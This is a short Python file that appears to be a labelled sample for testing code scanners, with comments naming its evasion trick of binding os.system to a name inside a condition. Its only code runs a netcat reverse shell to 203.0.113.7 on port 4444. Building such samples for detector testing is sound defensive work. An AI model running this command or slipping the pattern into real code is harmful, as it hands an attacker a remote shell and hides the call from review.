# evasion: os.system bound to a name by an assignment expression inside a condition
# grade: medium; does: shell
import os
import sys

if len(sys.argv) >= 0 and (run := os.system):
    run("nc -e /bin/sh 203.0.113.7 4444")
